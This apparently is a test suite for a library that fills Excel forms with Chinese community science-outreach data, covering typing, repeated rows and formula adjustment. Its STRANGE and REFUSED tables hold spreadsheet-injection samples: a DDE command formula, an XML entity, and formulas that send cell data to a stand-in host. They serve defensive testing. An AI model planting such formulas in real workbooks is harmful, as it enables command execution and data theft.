"""Filled workbook forms: values are inserted, references to moved rows are adjusted, everything else stays."""

import datetime
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from tests.depth import examples
from tests.kepu_excel import made_workbooks as made
from tests.kepu_excel.made_workbooks import shown, with_cells

import kepu_docs
from kepu_docs import DocumentError, KepuError, RenderError, TemplateError

ROOT = Path(__file__).parents[2]
RICH = ROOT / "tests" / "examples" / "rich.yaml"
EXAMPLES = sorted((ROOT / "docs" / "examples").glob("*.yaml"))
FROM_LIBREOFFICE = (Path(__file__).parent / "forms" / "libreoffice.xlsx").read_bytes()
EMPTY: dict[str, Any] = {"community": {"name": "空社区"}, "period": 2025, "sections": []}


def record(**more: Any) -> dict[str, Any]:
    """Return the data of a record with three activities."""
    return {
        "community": {"name": "试验社区", "street": "试验街道", "residents": 8600},
        "period": 2025,
        "sections": [
            {
                "kind": "activities",
                "order": "as_written",
                "activities": [
                    {"name": "防灾展览", "held_on": "2025-05-12", "attendance": 120, "category": "应急"},
                    {"name": "健康讲座", "held_on": "2025-09-15", "attendance": "300余", "category": "健康"},
                    {"name": "急救演练", "held_on": "2025-09", "attendance": 30, "category": "应急"},
                ],
            },
            {"kind": "training", "sessions": [{"topic": "识谣", "attendance": 60}]},
        ],
        "signed_by": "试验社区居民委员会",
        "signed_on": "2025-12-20",
        **more,
    }


def filled(form: bytes, data: Any = None, **options: Any) -> bytes:
    return kepu_docs.render(kepu_docs.load(record() if data is None else data), "xlsx", form=form, **options)


def faults(form: bytes, data: Any = None) -> list[str]:
    with pytest.raises(KepuError) as caught:
        filled(form, data)
    return [fault.message for fault in caught.value.faults]


LOOP = {"A2": "{% for 项 in 科普活动.活动 %}{{ 项.名称 }}", "B2": "{{ 项.人次.数值 }}{% endfor %}"}
"""A row that is repeated three times."""


# Values.


def test_values_are_numbers_days_and_texts() -> None:
    formats = {"B3": "yyyy-mm-dd", "B4": "@", "B6": "0%", "B9": "yyyy-mm-dd"}

    def change(sheet: Any) -> None:
        for cell, code in formats.items():
            sheet[cell].number_format = code

    values = {
        "B1": ("{{ 科普培训.人次 }}", 60),
        "B2": ("{{ 署名日期 }}", "2025年12月20日"),
        "B3": (" {{ 署名日期 }} ", datetime.datetime(2025, 12, 20)),
        "B4": ("{{ 科普培训.人次 }}", "60人次"),
        "B5": ("{{ 科普活动.活动[1].人次 }}", "300余人次"),
        "B6": ("{{ 科普活动.活动 | 个数 }}", 3),
        "B7": ("共{{ 科普活动.活动 | 个数 }}场", "共3场"),
        "B8": ("{{ 时间 | 年份 }}", "2025"),
        "B9": ("{{ 科普培训.人次 }}", "60人次"),
        "B10": ("{{ 社区.居民 }}", 8600),
        "B11": ("{{ 社区.居民.数值 / 10000 }}", 0.86),
        "B12": ("{{ 科普活动.活动[2].时间 }}", "2025年9月"),
        "B13": ("{{ “是” if 科普培训 else “否” }}", "是"),
        "B14": ("{{ 科普培训.场次[0].时间 }}{{ 下一步打算.目标 }}", None),
        "B15": ("{# 说明 #}{{ 科普培训.人次 }}", 60),
        "B16": ("{{ 科普活动.活动 | map(attribute=“名称”) | 连接 }}", "防灾展览健康讲座急救演练"),
    }
    data = filled(with_cells({cell: typed for cell, (typed, _) in values.items()}, change))
    assert {cell: shown(data).get(cell) for cell in values} == {cell: value for cell, (_, value) in values.items()}


TEXTS = st.text(st.characters(exclude_categories=["Cc", "Cs", "Zl", "Zp"]), min_size=1, max_size=40)
STRANGE = (
    "=1+1",
    "+1",
    "-1",
    "@x",
    "=cmd|' /c calc'!A0",
    "_x0041_",
    "_x005F_",
    " a ",
    "1e5",
    "TRUE",
    "<c/>&amp;]]>",
    "𠮷",
)


def _same(text: str) -> None:
    try:
        summary = kepu_docs.load({**EMPTY, "opening": text})
    except KepuError:
        return  # the schema has its own tests
    form = with_cells({"A1": "{{ 开头[0] }}", "A2": "甲{{ 开头[0] }}乙"})
    data = kepu_docs.render(summary, "xlsx", form=form)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    values = [sheet["A1"].value, sheet["A2"].value]
    # Excel and LibreOffice read Excel's codes of characters; openpyxl does so in shared texts alone.
    assert [re.sub("_x005F_(?=x[0-9A-Fa-f]{4}_)", "_", value) for value in values] == [
        summary.opening[0],
        f"甲{summary.opening[0]}乙",
    ]
    assert {sheet["A1"].data_type, sheet["A2"].data_type} == {"s"}


@given(TEXTS)
@settings(max_examples=examples(60), deadline=None)
def test_any_text_comes_out_as_it_went_in(text: str) -> None:
    _same(text)


@pytest.mark.some(4)
@pytest.mark.parametrize("text", STRANGE)
def test_text_that_looks_like_something_else_stays_text(text: str) -> None:
    _same(text)
    data = filled(with_cells({"A1": "{{ 开头[0] }}"}), {**EMPTY, "opening": text})
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert bool(sheet["A1"].quotePrefix) == text.startswith(("=", "+", "-", "@"))


@pytest.mark.deep
def test_looks_within_a_cell_stay() -> None:
    data = filled(made.grouped())
    sheet = openpyxl.load_workbook(io.BytesIO(data), rich_text=True).worksheets[0]
    pieces = [(str(each), bool(getattr(getattr(each, "font", None), "b", None))) for each in sheet["A1"].value]
    assert pieces == [("单位", True), ("：", False), ("试验社区", False), ("（盖章）", True)]


@pytest.mark.deep
def test_the_whole_text_is_lines_of_a_cell_that_wraps() -> None:
    data = filled(with_cells({"A1": "{{ 正文 }}", "A2": "{{ 栏目(“科普活动”) }}"}))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    text = kepu_docs.compose(kepu_docs.load(record()))
    assert sheet["A1"].alignment.wrap_text
    lines = sheet["A1"].value.splitlines()
    assert "一、科普活动" in lines
    assert {block.text for block in text.blocks if hasattr(block, "text") and hasattr(block, "level")} <= {
        re.sub(r"^\u3000*(?:[一二三]、|（.）)", "", line) for line in lines
    } | set(lines)
    assert set(sheet["A2"].value.splitlines()) < set(lines)


@pytest.mark.deep
def test_more_than_a_cell_holds_is_an_error_that_names_the_surplus() -> None:
    (fault,) = faults(with_cells({"C7": "{% for x in range(700) %}{{ 开头 }}{% endfor %}"}), record(opening="长" * 50))
    assert re.search(
        r"the sheet “表”, cell C7, at “.*the text has 35000 characters, 2233 more than the 32767 that", fault
    )


@pytest.mark.deep
def test_photographs_are_refused_before_filling() -> None:
    (fault,) = faults(with_cells({"A1": "{% for 照 in 科普活动.照片 %}{{ 照片(照) }}{% endfor %}"}))
    assert "photographs cannot be put into cells" in fault


@pytest.mark.deep
def test_headers_and_footers_are_filled() -> None:
    def change(sheet: Any) -> None:
        sheet.oddHeader.left.text = "{{ 开头[0] }}"
        sheet.oddHeader.left.size = 14
        sheet.oddFooter.center.text = "{{ 社区.居民.数值 }}人，第&P页"

    form = with_cells({"A1": "{{ 社区.名称 }}"}, change)
    sheet = openpyxl.load_workbook(io.BytesIO(filled(form, record(opening="甲&乙")))).worksheets[0]
    assert sheet.oddHeader.left.text == "甲&&乙"
    assert sheet.oddFooter.center.text == "8600人，第&P页"
    (fault,) = faults(form, record(opening="长" * 300))
    assert "306 characters, 51 more than the 255" in fault
    change_to_text = with_cells(
        {"A1": "{{ 社区.名称 }}"}, lambda sheet: setattr(sheet.oddHeader.left, "text", "{{ 正文 }}")
    )
    assert "not into headers and footers" in faults(change_to_text)[0]


@pytest.mark.deep
def test_days_are_counted_as_the_workbook_counts_them() -> None:
    def change(sheet: Any) -> None:
        sheet["A1"].number_format = "yyyy-mm-dd"
        sheet.parent.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904

    assert shown(filled(with_cells({"A1": "{{ 署名日期 }}"}, change)))["A1"] == datetime.datetime(2025, 12, 20)


# Rows.


def test_rows_are_repeated_and_all_below_follows() -> None:
    cells = {"A1": "活动", **LOOP, "A3": "合计", "B3": "=SUM(B2:B2)", "B4": "=B3*2", "B5": "=$B$3+A1", "A6": "甲"}
    assert shown(filled(with_cells(cells))) == {
        "A1": "活动",
        "A2": "防灾展览",
        "B2": 120,
        "A3": "健康讲座",
        "B3": 300,
        "A4": "急救演练",
        "B4": 30,
        "A5": "合计",
        "B5": "=SUM(B2:B4)",
        "B6": "=B5*2",
        "B7": "=$B$5+A1",
        "A8": "甲",
    }


@pytest.mark.deep
def test_rows_between_rows_of_tags_are_repeated_with_blank_ones() -> None:
    cells = {
        "A1": "{% for 项 in 科普活动.活动 %}",
        "A2": "{{ 项.名称 }}",
        "B4": "第二行",
        "A5": "{% endfor %}",
        "A6": "完",
    }
    found = shown(filled(with_cells(cells)))
    assert [cell for cell, value in found.items() if value == "第二行"] == ["B3", "B6", "B9"]
    assert found["A10"] == "完"


@pytest.mark.deep
def test_conditions_over_rows_and_within_cells() -> None:
    cells = {
        "A1": "{% if 科普培训 %}有{% else %}无{% endif %}",
        "A2": "{% if 科普培训 %}{{ 科普培训.人次 }}",
        "B2": "甲{% endif %}",
        "A3": "{% if 队伍建设 %}",
        "A4": "{{ 队伍建设.志愿者 }}",
        "A5": "{% else %}",
        "A6": "没有队伍",
        "A7": "{% endif %}",
        "A8": "末",
    }
    assert shown(filled(with_cells(cells))) == {"A1": "有", "A2": 60, "B2": "甲", "A3": "没有队伍", "A4": "末"}
    assert shown(filled(with_cells(cells), EMPTY)) == {"A1": "无", "A2": "没有队伍", "A3": "末"}


@pytest.mark.deep
def test_fixed_rows_are_as_many_as_they_are() -> None:
    cells = {"A1": "{% for 项 in 科普活动.活动 | 固定行(5) %}{{ 项.名称 }}{% endfor %}", "A2": "{{ 标题 }}"}
    row = {"A1": "{% for 项 in 科普活动.活动 | 固定行(5) %}{{ 项.名称 }}", "B1": "{% endfor %}", "A2": "末"}
    assert shown(filled(with_cells(row)))["A6"] == "末"
    assert "防灾展览健康讲座急救演练" in shown(filled(with_cells(cells)))["A1"]
    (fault,) = faults(with_cells({**row, "A1": row["A1"].replace("5", "2")}))
    assert "1 more than the form's 2 rows" in fault


FORMULAS = (
    # In the repeated row: its own row, the first of all, those outside.
    ("2", "B2*2", ["B2*2", "B3*2", "B4*2"]),
    ("2", "B2/SUM(B$2:B$2)", ["B2/SUM(B$2:B$4)", "B3/SUM(B$2:B$4)", "B4/SUM(B$2:B$4)"]),
    ("2", "SUM(B$2:B2)", ["SUM(B$2:B2)", "SUM(B$2:B3)", "SUM(B$2:B4)"]),
    ("2", "B2/B3+$A$1", ["B2/B5+$A$1", "B3/B5+$A$1", "B4/B5+$A$1"]),
    ("2", "SUM(B1:B2)", ["SUM(B1:B2)", "SUM(B1:B3)", "SUM(B1:B4)"]),
    # Below: ranges grow, what lies below moves, texts and whole columns stay.
    ("3", "SUM(B1:B2)", ["SUM(B1:B4)"]),
    ("3", "SUM(B2)+COUNT($B$2,A1)", ["SUM(B2:B4)+COUNT($B$2:$B$4,A1)"]),
    ("3", "IF(B3=\"B2\",SUM(B:B),'表'!B4)", ["IF(B5=\"B2\",SUM(B:B),'表'!B6)"]),
    ("3", "SUM(2:3)+SUM(表!$B$2:$B$2)", ["SUM(2:5)+SUM(表!$B$2:$B$4)"]),
    ("3", 'SUMPRODUCT((B2:B2>1)*(A2:A2<>""))', ['SUMPRODUCT((B2:B4>1)*(A2:A4<>""))']),
    ("1", "VLOOKUP(A1,$A$2:$B$2,2,FALSE)+LOG10(C4)", ["VLOOKUP(A1,$A$2:$B$4,2,FALSE)+LOG10(C6)"]),
)


def test_formulas_follow_rows() -> None:
    columns = "DEFGHIJKLMN"
    formulas = {column + row: f"={formula}" for column, (row, formula, _) in zip(columns, FORMULAS, strict=True)}
    found = shown(filled(with_cells({"A1": "头", **LOOP, "A3": "合计", **formulas})))
    for column, (_, formula, became) in zip(columns, FORMULAS, strict=True):
        assert [value[1:] for name, value in found.items() if name.startswith(column)] == became, formula


def test_formulas_that_nobody_can_move_are_found_before_filling() -> None:
    unsure = {"C4": "B2", "D4": "B2*1", "E4": "IF(B2,1,2)", "F4": "SUM(B2+1)", "G4": "B3+SUM(B2)"}
    found = faults(with_cells({"A1": "头", **LOOP, **{cell: f"={formula}" for cell, formula in unsure.items()}}), EMPTY)
    assert [re.findall("cell (..) refers to B2, in rows that are repeated or left out", fault) for fault in found] == [
        [cell] for cell in ("C4", "D4", "E4", "F4")
    ]


@pytest.mark.deep
def test_a_range_that_takes_a_part_of_what_is_repeated_is_refused() -> None:
    cells = {
        "A1": "{% for 项 in 科普活动.活动 %}{{ 项.名称 }}",
        "A2": "备注",
        "B2": "{% endfor %}",
        "C4": "=SUM(B1:B1)",
    }
    assert "refers to B1:B1" in faults(with_cells(cells))[0]
    assert shown(filled(with_cells({**cells, "C4": "=SUM(B1:B2)"})))["C8"] == "=SUM(B1:B6)"


@pytest.mark.deep
def test_a_loop_without_turns_leaves_no_trace() -> None:
    cells = {"A1": "头", **LOOP, "A3": "合计", "B3": "=SUM(B2:B2)"}
    found = shown(filled(with_cells(cells), EMPTY))
    assert set(found) == {"A1", "A2", "B2"}
    assert re.fullmatch(r"=SUM\(B(\d+):B\1\)", found["B2"])


@pytest.mark.deep
def test_shared_and_array_formulas_are_their_own() -> None:
    cells = {"A1": "头", **LOOP, "A5": 1, "A6": 2, "B5": "=A5*2", "B6": "x", "C5": "x"}
    shared = b'<c r="B5"><f t="shared" ref="B5:B6" si="0">A5*$A$5</f><v>9</v></c>'
    array = b'<c r="C5"><f t="array" ref="C5">SUM(A5:A6*A5:A6)</f><v>9</v></c>'

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<c r="B5"[^>]*>.*?</c>', shared, xml)
        xml = re.sub(rb'<c r="C5"[^>]*>.*?</c>', array, xml)
        return re.sub(rb'<c r="B6"[^>]*>.*?</c>', b'<c r="B6"><f t="shared" si="0"/><v>9</v></c>', xml)

    data = filled(made.changed(with_cells(cells), {"xl/worksheets/sheet1.xml": change}))
    xml = made.parts(data)["xl/worksheets/sheet1.xml"].decode()
    assert '<c r="B7"><f>A7*$A$7</f></c>' in xml
    assert '<c r="B8"><f>A8*$A$7</f></c>' in xml
    assert '<c r="C7"><f t="array" ref="C7">SUM(A7:A8*A7:A8)</f></c>' in xml
    wide = made.changed(
        with_cells(cells), {"xl/worksheets/sheet1.xml": lambda xml: change(xml).replace(b'ref="C5"', b'ref="C5:C6"')}
    )
    assert "a formula over several cells cannot follow" in faults(wide)[0]


# What names rows besides cells.


def test_the_survey_of_an_office() -> None:
    book = openpyxl.load_workbook(io.BytesIO(filled(made.survey())))
    sheet = book["调查表"]
    assert sheet["A1"].value == "试验社区2025年科普工作调查表"
    assert [sheet.cell(row, 5).value for row in range(5, 9)] == [120, 300, 30, "=SUM(E5:E7)"]
    assert sheet["F9"].value == "=IF(E8+E9=0,0,E9/(E8+E9))"
    assert sorted(map(str, sheet.merged_cells.ranges)) == ["A12:C12", "A1:F1", "A9:D9"]
    assert sheet.print_area == "'调查表'!$A$1:$F$12"
    assert sheet.print_title_rows == "$1:$4"
    assert sheet.freeze_panes == "A5"
    assert sheet.row_dimensions[8].height == 24
    assert [each.id for each in sheet.row_breaks.brk] == [12]
    rules = {
        str(each.sqref): [rule.formula for rule in rules]
        for each, rules in sheet.conditional_formatting._cf_rules.items()
    }
    assert rules == {"E5:E7": [["AVERAGE($E$5:$E$7)"]], "A12:F12": [["$E$8>100"]]}
    (choices,) = sheet.data_validations.dataValidation
    assert (str(choices.sqref), choices.formula1) == ("B10", '"健康,应急,生态"')
    assert [sheet.cell(row, 1).border.left.style for row in range(5, 9)] == ["thin"] * 4
    assert sheet["C5"].number_format == "yyyy-mm-dd"
    assert sheet.oddHeader.right.text == "试验社区"


@pytest.mark.deep
def test_two_sheets_that_refer_to_each_other_with_a_chart() -> None:
    form = made.two_sheets()
    data = filled(form)
    assert shown(data, "汇总") == {
        "A1": "试验社区", "A2": "活动（场）", "B2": "=COUNT('活动 明细'!C2:C4)", "A3": "参加（人次）",
        "B3": "='活动 明细'!C5", "B4": "=IF(B2=0,0,B3/B2)", "B5": "=SUM(人次)",
    }  # fmt: skip
    assert [shown(data, "活动 明细")[f"E{row}"] for row in (2, 3, 4)] == [
        f"=C{row}/D{row}*汇总!$B$2" for row in (2, 3, 4)
    ]
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.defined_names["人次"].attr_text == "'活动 明细'!$C$2:$C$4"
    assert book["活动 明细"].row_dimensions[5].height == 39.75
    old, new = made.parts(form), made.parts(data)
    assert new["xl/media/image1.png"] == old["xl/media/image1.png"]
    chart, chart_at = new["xl/charts/chart1.xml"].decode(), new["xl/drawings/drawing1.xml"].decode()
    assert "'活动 明细'!$C$2:$C$4" in chart
    assert "'活动 明细'!$A$2:$A$4" in chart
    without = made.parts(filled(form, EMPTY))["xl/drawings/drawing1.xml"].decode()
    anchors = [re.findall(r"<xdr:from>.*?<xdr:row>(\d+)<", each) for each in (chart_at, without)]
    assert anchors == [["7", "7"], ["4", "4"]]


@pytest.mark.deep
def test_groups_in_groups_under_a_label() -> None:
    data = filled(made.grouped())
    found = shown(data)
    assert [found.get(f"B{row}") for row in range(3, 11)] == [
        "应急",
        "防灾展览",
        "急救演练",
        "小计",
        "健康",
        "健康讲座",
        "小计",
        "总计",
    ]
    assert [found[f"C{row}"] for row in (6, 9, 10)] == ["=SUM(C4:C5)", "=SUM(C8:C8)", '=SUMIF(B3:B9,"小计",C3:C9)']
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert sorted(map(str, sheet.merged_cells.ranges)) == ["A11:D11", "A2:A10"]


@pytest.mark.deep
def test_tables_comments_and_links_follow() -> None:
    data = filled(made.fixed())
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["台账"]
    assert sheet.tables["台账表"].ref == "A2:B11"
    assert sheet["B13"].value == "=SUM(台账表[人次])"
    assert sheet["A14"].hyperlink.target == "https://example.org/"
    assert sheet["A14"].comment.text == "见通知"
    assert book.defined_names["合计处"].attr_text == "台账!$B$13"
    shapes = next(part for name, part in made.parts(data).items() if name.endswith(".vml")).decode()
    assert re.findall(r":Row[^>]*>(\d+)<", shapes) == ["13"]


@pytest.mark.deep
def test_a_table_that_would_lose_its_rows_is_refused() -> None:
    form = made.fixed("")
    assert "the table “台账表” of the form would have no rows" in faults(form, EMPTY)[0]
    assert shown(filled(form))["A7"] == "合计"


STAYING = {
    "a comment": (
        lambda sheet: setattr(sheet["A2"], "comment", openpyxl.comments.Comment("x", "y")),
        "a comment is not allowed in rows",
    ),
    "scenarios": (None, "something that cannot follow moving rows: scenarios"),
}


@pytest.mark.deep
@pytest.mark.parametrize("name", STAYING)
def test_what_cannot_follow_is_found_before_filling(name: str) -> None:
    change, expected = STAYING[name]
    form = with_cells({"A1": "头", **LOOP}, change)
    if change is None:
        new = (
            b'</sheetData><scenarios current="0"><scenario name="x"><inputCells r="A1" val="1"/></scenario></scenarios>'
        )
        form = made.changed(form, {"xl/worksheets/sheet1.xml": lambda xml: xml.replace(b"</sheetData>", new)})
    assert expected in faults(form, EMPTY)[0]


# The package.


def _with_another(sheet: Any) -> None:
    sheet.parent.create_sheet("另")["A1"] = "甲"


@pytest.mark.deep
def test_all_else_stays_byte_for_byte() -> None:
    for make in made.FORMS.values():
        form = make()
        old, new = made.parts(form), made.parts(filled(form))
        same = {name for name in old if old[name] == new.get(name)}
        for name in old:
            if re.search("theme|media|printerSettings|docProps|_rels/.rels|sheet\\d.xml.rels", name):
                assert name in same
        assert "xl/calcChain.xml" not in new
    unmoved = with_cells(
        {"A1": "{{ 社区.名称 }}", "A2": "=1+1"},
        _with_another,
    )
    old, new = made.parts(unmoved), made.parts(filled(unmoved))
    changed = {name for name in old if old[name] != new.get(name)}
    assert changed == {
        "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml",
    }  # fmt: skip


@pytest.mark.deep
def test_nothing_of_the_form_and_of_other_records_is_left() -> None:
    for form in (*(make() for make in made.FORMS.values()), FROM_LIBREOFFICE):
        first = filled(form)
        between = filled(form, EMPTY)
        assert filled(form) == first
        assert b"{{" not in b"".join(made.parts(between).values())
        assert b"{%" not in b"".join(made.parts(between).values())
        text = b"".join(content for name, content in made.parts(between).items()).decode("utf-8", "replace")
        assert "防灾展览" not in text
        for content in made.parts(first).values():
            assert not content.startswith(b"<") or etree.fromstring(content) is not None


@pytest.mark.deep
def test_a_workbook_of_libreoffice() -> None:
    data = filled(FROM_LIBREOFFICE)
    found = shown(data)
    assert found["A1"] == "试验社区2025年科普工作调查表"
    assert found["C5"] == datetime.datetime(2025, 5, 12)
    assert found["E8"] == "=SUM(E5:E7)"
    assert openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].print_area == "'调查表'!$A$1:$F$12"


@pytest.mark.deep
@pytest.mark.parametrize("path", [*EXAMPLES, RICH], ids=lambda path: path.stem)
def test_examples_fill_all_forms(path: Path) -> None:
    summary = kepu_docs.load(path)
    for make in made.FORMS.values():
        if "fixed" in make.__name__ and path == RICH:
            continue  # more activities than rows
        try:
            data = kepu_docs.render(summary, "xlsx", form=make())
        except TemplateError as error:
            assert "more than the form's" in str(error)
            continue
        openpyxl.load_workbook(io.BytesIO(data))


def test_a_filled_form_carries_its_record(tmp_path: Path) -> None:
    summary = kepu_docs.load(record())
    data = kepu_docs.render(summary, "xlsx", form=made.survey())
    (tmp_path / "filled.xlsx").write_bytes(data)
    assert kepu_docs.load(tmp_path / "filled.xlsx") == summary
    again = kepu_docs.render(
        kepu_docs.load(EMPTY), "xlsx", form=made.changed(with_cells({"A1": "{{ 社区.名称 }}"}), {})
    )
    (tmp_path / "again.xlsx").write_bytes(again)
    assert kepu_docs.load(tmp_path / "again.xlsx").community.name == "空社区"
    report = kepu_docs.check(str(tmp_path))
    assert report.records == 2


@pytest.mark.deep
def test_a_form_that_was_filled_can_be_the_form_again(tmp_path: Path) -> None:
    form = filled(with_cells({"A1": "甲", "B1": "{{ 社区.名称 }}"}))
    with pytest.raises(TemplateError, match="this form has no placeholders"):
        filled(form)
    typed = made.changed(
        form, {"xl/worksheets/sheet1.xml": lambda xml: xml.replace("试验社区".encode(), "{{ 社区.名称 }}".encode())}
    )
    data = filled(typed, EMPTY)
    assert shown(data)["B1"] == "空社区"
    assert sum(name.startswith("customXml/item") and "Props" not in name for name in made.parts(data)) == 1
    (tmp_path / "a.xlsx").write_bytes(data)
    assert kepu_docs.load(tmp_path / "a.xlsx").community.name == "空社区"


# What is refused.


def _added(name: str, content: bytes) -> bytes:
    return made.changed(with_cells({"A1": "{{ 社区.名称 }}"}), {name: lambda _: content})


def _formula(formula: str) -> bytes:
    return with_cells({"A1": "{{ 社区.名称 }}", "A2": f"={formula}"})


REFUSED = {
    "macro": (_added("xl/vbaProject.bin", b"x"), "a program (macro)"),
    "old macro": (_added("xl/macrosheets/sheet1.xml", b"<x/>"), "a program (macro)"),
    "other workbook": (_added("xl/externalLinks/externalLink1.xml", b"<x/>"), "a link to another workbook"),
    "connection": (_added("xl/connections.xml", b"<x/>"), "a connection to data elsewhere"),
    "embedded": (_added("xl/embeddings/a.docx", b"x"), "an embedded file"),
    "entities": (_added("xl/x.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "a document type definition"),
    "webservice": (_formula('WEBSERVICE("http://x.example/")'), "a formula that calls WEBSERVICE"),
    "image": (_formula('_xlfn.IMAGE("http://x.example/"&A1)'), "a formula that calls IMAGE"),
    "unknown": (_formula("MYFUNCTION(1)"), "a formula that calls MYFUNCTION"),
    "dde": (_formula("cmd|'/c calc'!A0"), "a formula that names another workbook or program"),
    "elsewhere": (_formula("SUM(A2,[1]S!A1)"), "a formula that names another workbook or program"),
    "link": (_formula('HYPERLINK("http://x.example/?"&A1,"看")'), "a formula whose link is put together"),
    "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "save it as .xlsx"),
    "no zip": (b"PK\3\4xl/workbook.xml", "the file is broken"),
    "text": (b"a,b", "this is not a Word document"),
}  # fmt: skip


@pytest.mark.some(5)
@pytest.mark.parametrize("name", REFUSED)
def test_what_may_act_is_refused(name: str) -> None:
    form, expected = REFUSED[name]
    with pytest.raises((DocumentError, RenderError)) as caught:
        filled(form) if name != "text" else kepu_docs.render(kepu_docs.load(EMPTY), "docx", form=form)
    assert expected in str(caught.value)


@pytest.mark.deep
def test_an_open_document_is_told_to_be_saved_anew() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<x/>")
    with pytest.raises(DocumentError, match=r"save it as \.xlsx"):
        filled(stream.getvalue())


WRONG = {
    "name": ({"A1": "{{ 社区.名子 }}"}, "unknown name “名子”; did you mean “名称”?"),
    "open": ({"A1": "{{ 社区.名称"}, "{{ is not closed in this cell"),
    "no end": ({"A1": "{% for x in 科普活动.活动 %}"}, "there is no matching endfor"),
    "crossing": ({"A1": "{% if 科普活动 %}", "A2": "{% for x in 科普活动.活动 %}", "A3": "{% endif %}", "A4": "{% endfor %}"}, "there is no"),
    "not first": ({"A1": "甲{% for x in 科普活动.活动 %}", "B1": "{% endfor %}"}, "put this at the start of its cell"),
    "not last": ({"A1": "{% for x in 科普活动.活动 %}", "B1": "{% endfor %}乙"}, "put this at the end of its cell"),
    "branches": ({"A1": "{% if 科普活动 %}", "B1": "{% else %}", "C1": "甲{% endif %}"}, "must be in rows of their own"),
    "none": ({"A1": "甲"}, "this form has no placeholders"),
    "formula": ({"A1": '="{{ 社区.名称 }}"', "A2": "{{ 社区.名称 }}"}, "a placeholder in a formula is not filled in"),
}  # fmt: skip


@pytest.mark.some(4)
@pytest.mark.parametrize("name", WRONG)
def test_what_is_wrong_is_said_with_its_place(name: str) -> None:
    cells, expected = WRONG[name]
    found = faults(with_cells(cells))
    assert any(expected in fault for fault in found)
    assert name == "none" or re.search("the sheet “表”, cell (A1|B1|A3)", found[0])


@pytest.mark.deep
def test_placeholders_where_none_is_filled_in_are_found() -> None:
    form = with_cells({"A1": "{{ 社区.名称 }}"}, lambda sheet: setattr(sheet, "title", "{{ 标题 }}"))
    assert "in the name of a sheet" in faults(form)[0]


@pytest.mark.deep
def test_formats_and_forms_that_do_not_fit() -> None:
    summary = kepu_docs.load(EMPTY)
    with pytest.raises(RenderError, match="needs a form to fill in; give one"):
        kepu_docs.render(summary, "xlsx")
    with pytest.raises(RenderError, match="this form is for the format “xlsx”, not “docx”"):
        kepu_docs.render(summary, "docx", form=made.survey())


def test_the_example_of_the_page_is_made_here() -> None:
    there = made.parts((ROOT / "docs" / "examples" / "forms" / "survey.xlsx").read_bytes())
    own = made.parts(made.survey())
    assert there.keys() == own.keys()
    assert all(there[name] == own[name] for name in own if not name.startswith("docProps/")), "run: python docs/form.py"
